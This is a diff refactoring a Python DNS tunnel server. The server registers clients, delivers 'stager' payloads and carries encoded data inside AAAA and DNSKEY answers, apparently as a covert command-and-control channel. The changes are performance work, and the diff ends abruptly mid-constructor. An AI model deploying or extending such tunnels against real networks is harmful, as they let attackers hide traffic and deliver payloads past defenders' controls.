@@ -7,6 +7,7 @@
 #
 
 import argparse
+import os
 import sys
 import time
 import threading
@@ -16,10 +17,15 @@ import re
 import ssl
 import Queue
 import base64
+import binascii
 import logging
 from logging.handlers import RotatingFileHandler
 import socket
 import select
+import errno
+import string
+from collections import deque, OrderedDict
+from itertools import chain
 from contextlib import contextmanager
 
 try:
@@ -42,31 +48,6 @@ root_logger.addHandler(handler)
 logger = logging.getLogger("dns_server")
 
 
-def pack_byte_to_hn(val):
-    """
-    Pack byte to network order unsigned short
-    """
-    return (val << 8) & 0xffff
-
-
-def pack_2byte_to_hn(low_byte, high_byte):
-    """
-    Pack 2 bytes to network order unsigned short
-    """
-    return ((low_byte << 8) | high_byte) & 0xffff
-
-
-def pack_ushort_to_hn(val):
-    """
-    Pack unsigned short to network order unsigned short
-    """
-    return ((val & 0xff) << 8) | ((val & 0xff00) >> 8) & 0xffff
-
-
-def xor_bytes(key, data):
-    return ''.join(chr(ord(data[i]) ^ ord(key[i % len(key)])) for i in range(len(data)))
-
-
 @contextmanager
 def ignored(*exceptions):
     try:
@@ -87,24 +68,16 @@ class Encoder(object):
 
     @staticmethod
     def get_next_sdomain(current_sdomain):
-
-        def increment(lst, index):
-            carry_flag = False
-            val = lst[index]
-            assert(val >= Encoder.MIN_VAL_DOMAIN_SYMBOL)
-            if val >= Encoder.MAX_VAL_DOMAIN_SYMBOL:
-                lst[index] = Encoder.MIN_VAL_DOMAIN_SYMBOL
-                carry_flag = True
+        sdomain = bytearray(current_sdomain)
+        for i in range(len(sdomain) - 1, -1, -1):
+            assert(sdomain[i] >= Encoder.MIN_VAL_DOMAIN_SYMBOL)
+            if sdomain[i] >= Encoder.MAX_VAL_DOMAIN_SYMBOL:
+                # carry to the next symbol
+                sdomain[i] = Encoder.MIN_VAL_DOMAIN_SYMBOL
             else:
-                lst[index] += 1
-            return carry_flag
-
-        lst = [ord(x) for x in reversed(current_sdomain)]
-        for i, _ in enumerate(lst):
-            if not increment(lst, i):
+                sdomain[i] += 1
                 break
-
-        return ''.join([chr(x) for x in reversed(lst)])
+        return str(sdomain)
 
     @staticmethod
     def encode_data_header(sub_domain, data_size):
@@ -135,45 +108,32 @@ class IPv6Encoder(Encoder):
     MAX_IPV6RR_NUM = 17
     MAX_DATA_IN_RR = 14
     MAX_PACKET_SIZE = MAX_IPV6RR_NUM * MAX_DATA_IN_RR
-    IPV6_FORMAT = ":".join(["{:04x}"]*8)
+    # 0xfe81, 4 subdomain chars each followed by zero byte, flag, data size(LE), zero byte
+    NEXTDOMAIN_DATASIZE = struct.Struct("<2BcxcxcxcxBIx")
+    # prefix, index and size of data, data padded with zeroes
+    DATA_PREFIX = struct.Struct("2B14s")
+    ADDRESS_BYTES = struct.Struct("16B")
+    # static answers are shared between requests
+    READY_RECEIVE = (binascii.unhexlify("ffff:0000:0000:0000:0000:0000:0000:0000".replace(":", "")),)
+    FINISH_SEND = (binascii.unhexlify("ffff:0000:0000:0000:0000:ff00:0000:0000".replace(":", "")),)
+    SEND_MORE_DATA = (binascii.unhexlify("ffff:0000:0000:0000:0000:f000:0000:0000".replace(":", "")),)
 
     @staticmethod
     def _encode_nextdomain_datasize(next_domain, data_size):
-        res = [0xfe81]
-        for ch in next_domain:
-            res.append(pack_byte_to_hn(ord(ch)))
-        res.append(pack_2byte_to_hn(0 if data_size <= IPv6Encoder.MAX_PACKET_SIZE else 1, data_size & 0xff))
-        res.append(pack_ushort_to_hn(data_size >> 8 & 0xffff))
-        res.append(pack_byte_to_hn(data_size >> 24 & 0xff))
-        return res
+        ch0, ch1, ch2, ch3 = next_domain
+        return IPv6Encoder.NEXTDOMAIN_DATASIZE.pack(0xfe, 0x81, ch0, ch1, ch2, ch3,
+                                                    0 if data_size <= IPv6Encoder.MAX_PACKET_SIZE else 1,
+                                                    data_size & 0xffffffff)
 
     @staticmethod
     def _encode_data_prefix(prefix, index, data):
         assert(len(data) <= IPv6Encoder.MAX_DATA_IN_RR)
         assert(index < IPv6Encoder.MAX_IPV6RR_NUM)
-        res = []
-        data_size = len(data)
-        res.append(pack_2byte_to_hn(prefix, (index << 4 if index < 16 else 0) | data_size))
-        for i in range(data_size//2):
-            res.append(pack_2byte_to_hn(ord(data[i*2]), ord(data[i*2 + 1])))
-        if data_size % 2 != 0:
-            res.append(pack_byte_to_hn(ord(data[data_size-1])))
-        return res
-
-    @staticmethod
-    def _align_hextets(hextests):
-        l = len(hextests)
-        if l < 8:
-            hextests += [0] * (8-l)
-        return hextests
-
-    @staticmethod
-    def hextets_to_str(hextets):
-        return IPv6Encoder.IPV6_FORMAT.format(*IPv6Encoder._align_hextets(hextets))
+        return IPv6Encoder.DATA_PREFIX.pack(prefix, (index << 4 if index < 16 else 0) | len(data), data)
 
     @staticmethod
     def encode_data_header(sub_domain, data_size):
-        return [IPv6Encoder.hextets_to_str(IPv6Encoder._encode_nextdomain_datasize(sub_domain, data_size))]
+        return [IPv6Encoder._encode_nextdomain_datasize(sub_domain, data_size)]
 
     @staticmethod
     def encode_packet(packet_data):
@@ -186,27 +146,26 @@ class IPv6Encoder(Encoder):
             next_i = min(i + IPv6Encoder.MAX_DATA_IN_RR, data_len)
             num_rr = i // IPv6Encoder.MAX_DATA_IN_RR
             is_last = (num_rr == (IPv6Encoder.MAX_IPV6RR_NUM - 1))
-            hextets = IPv6Encoder._encode_data_prefix(0xfe if is_last else 0xff,
-                                                      num_rr, packet_data[i:next_i])
-            block.append(IPv6Encoder.hextets_to_str(hextets))
+            block.append(IPv6Encoder._encode_data_prefix(0xfe if is_last else 0xff,
+                                                         num_rr, packet_data[i:next_i]))
             i = next_i
         return block
 
     @staticmethod
     def encode_ready_receive():
-        return ["ffff:0000:0000:0000:0000:0000:0000:0000"]
+        return IPv6Encoder.READY_RECEIVE
 
     @staticmethod
     def encode_finish_send():
-        return ["ffff:0000:0000:0000:0000:ff00:0000:0000"]
+        return IPv6Encoder.FINISH_SEND
 
     @staticmethod
     def encode_send_more_data():
-        return ["ffff:0000:0000:0000:0000:f000:0000:0000"]
+        return IPv6Encoder.SEND_MORE_DATA
 
     @staticmethod
     def encode_registration(client_id, status):
-        return ["ffff:"+hex(ord(client_id))[2:4]+"00:0000:0000:0000:0000:0000:0000"]
+        return ["\xff\xff" + client_id + "\x00" * 13]
 
 
 class DNSKeyEncoder(Encoder):
@@ -215,6 +174,12 @@ class DNSKeyEncoder(Encoder):
     ALGO = 253
     PROTOCOL = 3
     FLAGS = 257
+    DATA_HEADER = struct.Struct("<BH")
+    SUB_DOMAIN_SIZE = struct.Struct("4sI")
+    # static answers are shared between requests
+    READY_RECEIVE = (DNSKEY(flags=FLAGS, protocol=PROTOCOL, algorithm=ALGO, key=DATA_HEADER.pack(0x00, 0)),)
+    FINISH_SEND = (DNSKEY(flags=FLAGS, protocol=PROTOCOL, algorithm=ALGO, key=DATA_HEADER.pack(0x01, 0)),)
+    SEND_MORE_DATA = READY_RECEIVE
 
     @staticmethod
     def _encode_to_dnskey(key=""):
@@ -223,12 +188,11 @@ class DNSKeyEncoder(Encoder):
 
     @staticmethod
     def _encode_data(status=0, data=""):
-        data_len = len(data)
-        return struct.pack("<BH", status, data_len) + data
+        return DNSKeyEncoder.DATA_HEADER.pack(status, len(data)) + data
 
     @staticmethod
     def encode_data_header(sub_domain, data_size):
-        key_data = struct.pack("4sI", sub_domain, data_size)
+        key_data = DNSKeyEncoder.SUB_DOMAIN_SIZE.pack(sub_domain, data_size)
         key = DNSKeyEncoder._encode_data(data=key_data)
         return [DNSKeyEncoder._encode_to_dnskey(key)]
 
@@ -242,18 +206,15 @@ class DNSKeyEncoder(Encoder):
 
     @staticmethod
     def encode_ready_receive():
-        key = DNSKeyEncoder._encode_data()
-        return [DNSKeyEncoder._encode_to_dnskey(key)]
+        return DNSKeyEncoder.READY_RECEIVE
 
     @staticmethod
     def encode_finish_send():
-        key = DNSKeyEncoder._encode_data(status=0x01)
-        return [DNSKeyEncoder._encode_to_dnskey(key)]
+        return DNSKeyEncoder.FINISH_SEND
 
     @staticmethod
     def encode_send_more_data():
-        key = DNSKeyEncoder._encode_data(status=0x00)
-        return [DNSKeyEncoder._encode_to_dnskey(key)]
+        return DNSKeyEncoder.SEND_MORE_DATA
 
     @staticmethod
     def encode_registration(client_id, status):
@@ -266,28 +227,31 @@ class NULLEncoder(Encoder):
 
 
 class PartedData(object):
+    __slots__ = ("expected_size", "current_size", "data")
+    # sizes come from the peers, larger data grows the buffer while it is received
+    PREALLOCATE_LIMIT = 1024 * 1024
+
     def __init__(self, expected_size=0):
-        self.expected_size = expected_size
-        self.current_size = 0
-        self.data = ""
+        self.reset(expected_size)
 
     def reset(self, expected_size=0):
         self.expected_size = expected_size
         self.current_size = 0
-        self.data = ""
+        self.data = bytearray(min(expected_size, PartedData.PREALLOCATE_LIMIT))
 
     def add_part(self, data):
         data_len = len(data)
-        if (self.current_size + data_len) > self.expected_size:
+        end = self.current_size + data_len
+        if end > self.expected_size:
             raise ValueError("PartedData overflow")
-        self.data += data
-        self.current_size += data_len
+        self.data[self.current_size:end] = data
+        self.current_size = end
 
     def is_complete(self):
         return self.expected_size == self.current_size
 
     def get_data(self):
-        return self.data
+        return bytes(self.data)
 
     def get_expected_size(self):
         return self.expected_size
@@ -301,15 +265,23 @@ class BlockSizedData(object):
         self.data = data
         self.block_size = block_size
         self.data_size = len(self.data)
+        # last returned block, retransmits usually ask for the same index again
+        self.last_block = (-1, None)
 
     def get_data(self, block_index):
+        last_index, last_block = self.last_block
+        if block_index == last_index:
+            return last_block
+
         start_index = block_index * self.block_size
         if start_index >= self.data_size:
             raise IndexError("block index out of range")
 
         end_index = min(start_index + self.block_size, self.data_size)
         is_last = self.data_size == end_index
-        return is_last, self.data[start_index:end_index]
+        block = (is_last, self.data[start_index:end_index])
+        self.last_block = (block_index, block)
+        return block
 
     def get_size(self):
         return self.data_size
@@ -321,14 +293,16 @@ class Registrator(object):
 
     @staticmethod
     def instance():
-        if not Registrator.__instance:
-            Registrator.__instance = Registrator()
-        return Registrator.__instance
+        instance = Registrator.__instance
+        if instance is None:
+            instance = Registrator.__instance = Registrator()
+        return instance
 
     def __init__(self):
-        self.id_list = [chr(i) for i in range(ord('a'), ord('z')+1)]
+        self.id_list = deque(chr(i) for i in range(ord('a'), ord('z')+1))
         self.clientMap = {}
         self.servers = {}
+        # copy-on-write: changed under the lock by rebinding a new dict, read without the lock
         self.stagers = {}
         self.waited_servers = {}
         self.unregister_list = []
@@ -344,14 +318,14 @@ class Registrator(object):
     def register_client_for_server(self, server_id, client):
         self.logger.info("Register client(%s) for server '%s'", client.get_id(), server_id)
         with self.lock:
-            self.servers.setdefault(server_id, []).append(client)
+            self.servers.setdefault(server_id, deque()).append(client)
         self._notify_waited_servers(server_id)
 
     def request_client_id(self, client):
         client_id = None
         with self.lock:
             try:
-                client_id = self.id_list.pop(0)
+                client_id = self.id_list.popleft()
                 self.clientMap[client_id] = client
             except IndexError as e:
                 self.logger.error("Can't find free id for new client.", exc_info=True)
@@ -363,7 +337,7 @@ class Registrator(object):
         with self.lock:
             waited_lst = self.waited_servers.get(server_id, [])
             if waited_lst:
-                notify_server = waited_lst.pop(0)
+                notify_server = waited_lst.popleft()
                 if not waited_lst:
                     del self.waited_servers[server_id]
         if notify_server:
@@ -372,7 +346,7 @@ class Registrator(object):
 
     def subscribe(self, server_id, server):
         with self.lock:
-            self.waited_servers.setdefault(server_id, []).append(server)
+            self.waited_servers.setdefault(server_id, deque()).append(server)
         self.logger.info("Subscription is done for server with %s id.", server_id)
 
     def unsubscribe(self, server_id, server):
@@ -384,41 +358,46 @@ class Registrator(object):
         self.logger.info("Unsubscription is done for server with %s id.", server_id)
 
     def get_client_by_id(self, client_id):
-        with self.lock:
-            with ignored(KeyError):
-                return self.clientMap[client_id]
+        # single dict lookup is atomic, no need to take the lock
+        return self.clientMap.get(client_id)
 
     def get_new_client_for_server(self, server_id):
         self.logger.info("Looking for clients...")
+        if server_id not in self.servers:
+            return None
         with self.lock:
-            with ignored(IndexError):
-                clients = self.servers.get(server_id, [])
-                assigned_client = clients.pop(0)
+            clients = self.servers.get(server_id)
+            if clients:
+                assigned_client = clients.popleft()
                 if not clients:
                     del self.servers[server_id]
                 return assigned_client
 
     def get_stage_client_for_server(self, server_id):
+        stager = self.stagers.get(server_id)
+        if stager is not None:
+            return stager
         with self.lock:
-            try:
-                return self.stagers[server_id]
-            except KeyError:
-                self.logger.info("Trying to request stager for server with %s id", server_id)
-                waited_lst = self.waited_servers.get(server_id, [])
-                if waited_lst:
-                    server = waited_lst[0]
-                    server.request_stage()
-                else:
-                    self.logger.info("Server list is empty")
-                return self.default_stager
+            stager = self.stagers.get(server_id)
+            if stager is not None:
+                return stager
+            self.logger.info("Trying to request stager for server with %s id", server_id)
+            waited_lst = self.waited_servers.get(server_id, [])
+            if waited_lst:
+                server = waited_lst[0]
+                server.request_stage()
+            else:
+                self.logger.info("Server list is empty")
+            return self.default_stager
 
     def add_stager_for_server(self, server_id, data):
         with self.lock:
-            self.stagers[server_id] = StageClient(data)
+            stagers = dict(self.stagers)
+            stagers[server_id] = StageClient(data)
+            self.stagers = stagers
 
     def is_stager_server(self, server_id):
-        with self.lock:
-            return server_id in self.stagers
+        return server_id in self.stagers
 
     def _unregister_client(self, client_id):
         with self.lock:
@@ -439,7 +418,8 @@ class Registrator(object):
         with self.lock:
             ids_for_remove = []
             for client_id, client in self.clientMap.iteritems():
-                if abs(cur_time - client.ts) >= self.CLIENT_TIMEOUT:
+                # client.ts lags behind by up to one timer period
+                if abs(cur_time - client.ts) >= self.CLIENT_TIMEOUT + self.timeout_service.timeout:
                     ids_for_remove.append(client_id)
                     disconnect_client_lst.append(client)
 
@@ -451,11 +431,15 @@ class Registrator(object):
             ids_for_remove = [server_id for server_id, client in self.stagers.iteritems()
                               if abs(client.ts - cur_time) >= self.CLIENT_TIMEOUT * 4]
 
-            for server_id in ids_for_remove:
-                waiters = self.waited_servers.get(server_id, [])
-                if not waiters:
-                    del self.stagers[server_id]
-                    self.logger.info("Clearing stager client for server with '%s' id(reason: timeout)", server_id)
+            if ids_for_remove:
+                stagers = dict(self.stagers)
+                for server_id in ids_for_remove:
+                    waiters = self.waited_servers.get(server_id, [])
+                    if not waiters:
+                        del stagers[server_id]
+                        self.logger.info("Clearing stager client for server with '%s' id(reason: timeout)",
+                                         server_id)
+                self.stagers = stagers
 
             unregister_list = []
             for client_id in self.unregister_list:
@@ -480,6 +464,8 @@ class Registrator(object):
 
 class TimeoutService(object):
     DEFAULT_TIMEOUT = 40
+    # coarse current time, refreshed on every timer tick
+    now = int(time.time())
 
     def __init__(self, timeout=DEFAULT_TIMEOUT):
         self.timeout = timeout
@@ -489,6 +475,7 @@ class TimeoutService(object):
         self.one_shot_listeners = set()
 
     def _setup_timer(self):
+        TimeoutService.now = int(time.time())
         if self.timer:
             self.timer.cancel()
         self.timer = threading.Timer(self.timeout, self.timer_expired)
@@ -498,9 +485,10 @@ class TimeoutService(object):
         return len(self.listeners) == 0 and len(self.one_shot_listeners) == 0
 
     def timer_expired(self):
+        cur_time = TimeoutService.now = int(time.time())
         with self.lock:
-            for listener in (self.listeners | self.one_shot_listeners):
-                cur_time = int(time.time())
+            # snapshot, listeners may be changed by callbacks
+            for listener in list(chain(self.listeners, self.one_shot_listeners)):
                 listener(cur_time)
             self.one_shot_listeners = set()
 
@@ -547,9 +535,24 @@ class Client(object):
         self.register_for_server_needed = False
         self.ts = 0
         self.lock = threading.Lock()
+        self.encoder = None
+        self.max_packet_size = 0
+        self.encode_packet = None
+        self.encode_data_header = None
+        self.get_next_sdomain = None
 
     def update_last_request_ts(self):
-        self.ts = int(time.time())
+        self.ts = TimeoutService.now
+
+    def _set_encoder(self, encoder):
+        """
+        Bind encoder attributes to the client, so they are not looked up on every request
+        """
+        self.encoder = encoder
+        self.max_packet_size = encoder.MAX_PACKET_SIZE
+        self.encode_packet = encoder.encode_packet
+        self.encode_data_header = encoder.encode_data_header
+        self.get_next_sdomain = encoder.get_next_sdomain
 
     def is_idle(self):
         with self.lock:
@@ -590,12 +593,12 @@ class Client(object):
 
     def incoming_data_header(self, data_size, padding, encoder):
         if self.received_data.get_expected_size() == data_size and self.state == self.INCOMING_DATA:
-            self.logger.info("Duplicated header request: waiting %d bytes of data with padding %d", data_size, padding)
+            self.logger.debug("Duplicated header request: waiting %d bytes of data with padding %d", data_size, padding)
             return encoder.encode_ready_receive()
         elif self.state == self.INCOMING_DATA:
             self.logger.error("Bad request. Client in the receiving data state")
             return None
-        self.logger.info("Data header: waiting %d bytes of data", data_size)
+        self.logger.debug("Data header: waiting %d bytes of data", data_size)
         self._setup_receive(data_size, padding)
         return encoder.encode_ready_receive()
 
@@ -611,7 +614,7 @@ class Client(object):
             return encoder.encode_finish_send()
 
         if self.last_received_index >= index:
-            self.logger.info("Duplicated packet.")
+            self.logger.debug("Duplicated packet.")
             return encoder.encode_send_more_data()
 
         try:
@@ -623,14 +626,17 @@ class Client(object):
 
         self.last_received_index = index
         if self.received_data.is_complete():
-            self.logger.info("All expected data is received")
+            self.logger.debug("All expected data is received")
             try:
-                packet = base64.b32decode(self.received_data.get_data() + "=" * self.padding, True)
-                self.logger.info("Put decoded data to the server queue")
+                # pad the received buffer in place, it is reset right after decoding
+                data = self.received_data.data
+                data.extend("=" * self.padding)
+                packet = base64.b32decode(bytes(data), True)
+                self.logger.debug("Put decoded data to the server queue")
                 self.server_queue.put(packet)
                 self._initial_state()
                 if self.server:
-                    self.logger.info("Notify server")
+                    self.logger.debug("Notify server")
                     self.server.polling()
             except Exception:
                 self.logger.error("Error during decode received data", exc_info=True)
@@ -639,6 +645,8 @@ class Client(object):
         return encoder.encode_send_more_data()
 
     def request_data_header(self, sub_domain, encoder):
+        if encoder is not self.encoder:
+            self._set_encoder(encoder)
         if sub_domain == self.sub_domain:
             if self.register_for_server_needed:
                 Registrator.instance().register_client_for_server(self.server_id, self)
@@ -646,20 +654,20 @@ class Client(object):
 
             if not self.send_data:
                 with ignored(Queue.Empty):
-                    self.logger.info("Checking client queue...")
+                    self.logger.debug("Checking client queue...")
                     data = self.client_queue.get_nowait()
-                    self.send_data = BlockSizedData(data, encoder.MAX_PACKET_SIZE)
+                    self.send_data = BlockSizedData(data, self.max_packet_size)
                     self.logger.debug("New data found: size is %d", len(data))
 
             data_size = 0
             if self.send_data:
-                next_sub = encoder.get_next_sdomain(self.sub_domain)
+                next_sub = self.get_next_sdomain(self.sub_domain)
                 sub_domain = next_sub
                 data_size = self.send_data.get_size()
             else:
-                self.logger.info("No data for client.(%s)", "server" if self.server else "no server")
-            self.logger.info("Send data header to client with domain %s and size %d", sub_domain, data_size)
-            return encoder.encode_data_header(sub_domain, data_size)
+                self.logger.debug("No data for client.(%s)", "server" if self.server else "no server")
+            self.logger.debug("Send data header to client with domain %s and size %d", sub_domain, data_size)
+            return self.encode_data_header(sub_domain, data_size)
         else:
             self.logger.info("Subdomain is different %s(request) - %s(client)", sub_domain, self.sub_domain)
             if sub_domain == "aaaa":
@@ -668,6 +676,8 @@ class Client(object):
             self.send_data = None
 
     def request_data(self, sub_domain, index, encoder):
+        if encoder is not self.encoder:
+            self._set_encoder(encoder)
         self.logger.debug("request_data - %s, %d", sub_domain, index)
         if sub_domain != self.sub_domain:
             self.logger.error("request_data: subdomains are not equal(%s-%s)", self.sub_domain, sub_domain)
@@ -680,19 +690,26 @@ class Client(object):
         try:
             _, data = self.send_data.get_data(index)
             self.logger.debug("request_data: return data %s", data)
-            return encoder.encode_packet(data)
+            return self.encode_packet(data)
         except ValueError:
             self.logger.error("request_data: index(%d) out of range.", index)
 
     def server_put_data(self, data):
-        self.logger.info("Server adds data to queue.")
+        self.logger.debug("Server adds data to queue.")
         self.client_queue.put(data)
 
-    def server_get_data(self, timeout=2):
-        self.logger.info("Checking server queue...")
+    def server_get_data(self):
+        """
+        Take all data queued for the server, packets are joined to be sent at once
+        """
+        self.logger.debug("Checking server queue...")
+        parts = []
         with ignored(Queue.Empty):
-            data = self.server_queue.get(True, timeout)
-            self.logger.info("There are new data(length=%d) for the server", len(data))
+            while True:
+                parts.append(self.server_queue.get_nowait())
+        if parts:
+            data = parts[0] if len(parts) == 1 else "".join(parts)
+            self.logger.debug("There are new data(length=%d) for the server", len(data))
             return data
 
     def server_has_data(self):
@@ -714,7 +731,7 @@ class StageClient(object):
         self.ts = 0
 
     def update_last_request_ts(self):
-        self.ts = int(time.time())
+        self.ts = TimeoutService.now
 
     def request_data_header(self, encoder):
         return encoder.encode_data_header(self.subdomain, self.data_len)
@@ -733,7 +750,7 @@ class StageClient(object):
 
 class Request(object):
     EXPR = None
-    OPTIONS = []
+    OPTIONS = ()
     LOGGER = logging.getLogger("Request")
 
     @classmethod
@@ -741,24 +758,42 @@ class Request(object):
         if cls.EXPR:
             return cls.EXPR.match(qname)
 
+    @staticmethod
+    def combine_expr(handlers):
+        """
+        Compile expressions of the handlers into one alternation.
+        Group "h<N>" of the match corresponds to handlers[N], its group "name" is renamed to "h<N>_name".
+        """
+        parts = []
+        for i, handler in enumerate(handlers):
+            # group names must be unique in the alternation, prefix them with the handler group
+            parts.append("(?P<h%d>" % i + re.sub(r"\(\?P<(\w+)>", r"(?P<h%d_\1>" % i, handler.EXPR.pattern) + ")")
+        return re.compile("|".join(parts))
+
     @classmethod
-    def handle(cls, qname, dns_cls):
-        m = cls.match(qname)
-        if not m:
-            return None
-        params = m.groupdict()
+    def handle(cls, qname, dns_cls, params=None):
+        """
+        :param params: groups of the already matched expression, qname is matched if they are not given
+        """
+        if params is None:
+            m = cls.match(qname)
+            if not m:
+                return None
+            params = m.groupdict()
         client = None
         client_id = params.pop("client", None)
+        # the Registrator starts the TimeoutService clock, it must run before a new client is stamped
+        registrator = Registrator.instance()
         if not client_id:
             if "new_client" in cls.OPTIONS:
                 Request.LOGGER.info("Create a new client.")
                 client = Client()
         else:
-            client = Registrator.instance().get_stage_client_for_server(client_id) if "stage_client" in cls.OPTIONS else \
-                     Registrator.instance().get_client_by_id(client_id)
+            client = registrator.get_stage_client_for_server(client_id) if "stage_client" in cls.OPTIONS else \
+                     registrator.get_client_by_id(client_id)
 
         if client:
-            Request.LOGGER.info("Request will be handled by class %s", cls.__name__)
+            Request.LOGGER.debug("Request will be handled by class %s", cls.__name__)
             client.update_last_request_ts()
             params["encoder"] = dns_cls.encoder
             return cls._handle_client(client, **params)
@@ -771,7 +806,7 @@ class Request(object):
 
 
 class GetDataHeader(Request):
-    EXPR = re.compile(r"(?P<sub_dom>\w{4})\.g\.(?P<rnd>\d+)\.(?P<client>\w)")
+    EXPR = re.compile(r"(?P<sub_dom>\w{4})\.g\.(?P<rnd>\d+)\.(?P<client>\w)\Z")
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -782,7 +817,7 @@ class GetDataHeader(Request):
 
 class GetStageHeader(Request):
     EXPR = re.compile(r"7812\.000g\.(?P<rnd>\d+)\.0\.(?P<client>\w+)")
-    OPTIONS = ["stage_client"]
+    OPTIONS = ("stage_client",)
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -791,7 +826,7 @@ class GetStageHeader(Request):
 
 
 class GetDataRequest(Request):
-    EXPR = re.compile(r"(?P<sub_dom>\w{4})\.(?P<index>\d+)\.(?P<rnd>\d+)\.(?P<client>\w)")
+    EXPR = re.compile(r"(?P<sub_dom>\w{4})\.(?P<index>\d+)\.(?P<rnd>\d+)\.(?P<client>\w)\Z")
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -803,7 +838,7 @@ class GetDataRequest(Request):
 
 class GetStageRequest(Request):
     EXPR = re.compile(r"7812\.(?P<index>\d+)\.(?P<rnd>\d+)\.0\.(?P<client>\w+)")
-    OPTIONS = ["stage_client"]
+    OPTIONS = ("stage_client",)
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -813,7 +848,7 @@ class GetStageRequest(Request):
 
 
 class IncomingDataRequest(Request):
-    EXPR = re.compile(r"t\.(?P<base64>.*)\.(?P<idx>\d+)\.(?P<cnt>\d+)\.(?P<client>\w)")
+    EXPR = re.compile(r"t\.(?P<base64>[^.]+(?:\.[^.]+)*)\.(?P<idx>\d+)\.(?P<cnt>\d+)\.(?P<client>\w)\Z")
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -821,12 +856,12 @@ class IncomingDataRequest(Request):
         counter = int(kwargs['cnt'])
         index = int(kwargs['idx'])
         encoder = kwargs['encoder']
-        enc_data = re.sub(r"\.", "", enc_data)
+        enc_data = enc_data.replace(".", "")
         return client.incoming_data(enc_data, index, counter, encoder)
 
 
 class IncomingDataHeaderRequest(Request):
-    EXPR = re.compile(r"(?P<size>\d+)\.(?P<padd>\d+)\.tx\.(?P<rnd>\d+)\.(?P<client>\w)")
+    EXPR = re.compile(r"(?P<size>\d+)\.(?P<padd>\d+)\.tx\.(?P<rnd>\d+)\.(?P<client>\w)\Z")
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -838,7 +873,7 @@ class IncomingDataHeaderRequest(Request):
 
 class IncomingNewClient(Request):
     EXPR = re.compile(r"7812\.reg0\.\d+\.(?P<server_id>\w+)")
-    OPTIONS = ["new_client"]
+    OPTIONS = ("new_client",)
 
     @classmethod
     def _handle_client(cls, client, **kwargs):
@@ -852,7 +887,7 @@ class DNSTunnelRequestHandler(object):
         self.domain = domain
         self.logger = logging.getLogger(self.__class__.__name__)
         # self.logger.setLevel(logging.DEBUG)
-        self.handlers_chain = [
+        self.handlers_chain = (
             GetStageHeader,
             GetStageRequest,
             IncomingDataHeaderRequest,
@@ -860,23 +895,36 @@ class DNSTunnelRequestHandler(object):
             GetDataRequest,
             GetDataHeader,
             IncomingNewClient
-        ]
-
-    def process_request(self, reply, qname):
-        # cut domain from requested qname
-        i = qname.rfind("." + self.domain)
-        if i == -1:
-            self.logger.error("Bad request: can't find domain %s in %s", self.domain, qname)
+        )
+        self.handlers_expr = Request.combine_expr(self.handlers_chain)
+        self.handlers_index = dict(("h%d" % i, i) for i in xrange(len(self.handlers_chain)))
+        # (combined group name, handler group name) pairs of every handler
+        self.handlers_groups = tuple(tuple(("h%d_%s" % (i, name), name) for name in handler.EXPR.groupindex)
+                                     for i, handler in enumerate(self.handlers_chain))
+
+    def process_request(self, reply, qname, sub_domain):
+        if not sub_domain:
+            self.logger.error("Bad request: there is no subdomain of %s in %s", self.domain, qname)
             return
-        sub_domain = qname[:i]
-        self.logger.info("requested subdomain name is %s", sub_domain)
-        for handler in self.handlers_chain:
-            answer = handler.handle(sub_domain, self.__class__)
+        self.logger.debug("requested subdomain name is %s", sub_domain)
+        # one match finds the first handler whose expression fits the subdomain,
+        # the rest of the chain is kept as fallback if that handler can't answer
+        m = self.handlers_expr.match(sub_domain)
+        if m:
+            first_handler = self.handlers_index[m.lastgroup]
+            # the matched handler gets its groups from the combined match instead of matching again
+            params = dict((name, m.group(group)) for group, name in self.handlers_groups[first_handler])
+        else:
+            first_handler = len(self.handlers_chain)
+            params = None
+        for handler in self.handlers_chain[first_handler:]:
+            answer = handler.handle(sub_domain, self.__class__, params)
+            params = None
             if not answer:
                 continue
+            process_rr = self.process_rr
             for rr in answer:
-                self.logger.debug("Add resource record to the reply %s", rr)
-                self.process_rr(qname, rr, reply)
+                process_rr(qname, rr, reply)
             break
         else:
             self.logger.error("Request with subdomain %s doesn't handled", qname)
@@ -889,8 +937,9 @@ class AAAARequestHandler(DNSTunnelRequestHandler):
     encoder = IPv6Encoder
 
     def process_rr(self, qname, rr, reply):
+        # rr is a packed 16 bytes address, AAAA takes it as a tuple of bytes
         reply.add_answer(RR(rname=qname, rtype=QTYPE.AAAA, rclass=1, ttl=1,
-                            rdata=AAAA(rr)))
+                            rdata=AAAA(IPv6Encoder.ADDRESS_BYTES.unpack(rr))))
 
 class DNSKeyRequestHandler(DNSTunnelRequestHandler):
      encoder = DNSKeyEncoder
@@ -909,7 +958,49 @@ class NULLRequestHandler(DNSTunnelRequestHandler):
         #reply.add_answer(RR(rname=qname, rtype=QTYPE.NULL, rclass=1, ttl=1,
         #                    rdata=DNSNULL(rr)))
 
+class AnswerCache(object):
+    """
+    Bounded LRU cache of packed DNS answers with expiration
+    """
+    DEFAULT_SIZE = 4096
+    DEFAULT_TTL = 300
+
+    def __init__(self, max_size=DEFAULT_SIZE, ttl=DEFAULT_TTL):
+        self.max_size = max_size
+        self.ttl = ttl
+        # key -> (answer, expiration time)
+        self.answers = OrderedDict()
+        self.lock = threading.Lock()
+
+    def get(self, key):
+        now = time.time()
+        with self.lock:
+            entry = self.answers.pop(key, None)
+            if entry is None or entry[1] <= now:
+                return None
+            # reinsert as the most recently used
+            self.answers[key] = entry
+            return entry[0]
+
+    def put(self, key, answer):
+        expiration = time.time() + self.ttl
+        with self.lock:
+            self.answers.pop(key, None)
+            self.answers[key] = (answer, expiration)
+            if len(self.answers) > self.max_size:
+                self.answers.popitem(last=False)
+
+
 class DnsServer(object):
+    # answers for these types don't depend on the tunnel state
+    STATIC_QTYPES = (QTYPE.A, QTYPE.NS)
+    STATIC_QTYPES_WIRE = tuple(struct.pack(">H", qtype) for qtype in STATIC_QTYPES)
+    LOWER_CASE = string.maketrans(string.ascii_uppercase, string.ascii_lowercase)
+    # id, flags, qdcount, ancount, nscount, arcount
+    REPLY_HEADER = struct.Struct(">6H")
+    # qr, aa, rd, ra
+    REPLY_FLAGS = 0x8580
+    TRUNCATED_FLAG = 0x0200
     __instance = None
 
     @staticmethod
@@ -922,68 +1013,148 @@ class DnsServer(object):
         return DnsServer.__instance
 
     def __init__(self, domain, ipv4, ns_servers):
-        self.domain = domain + "."
+        self.domain = intern(domain + ".")
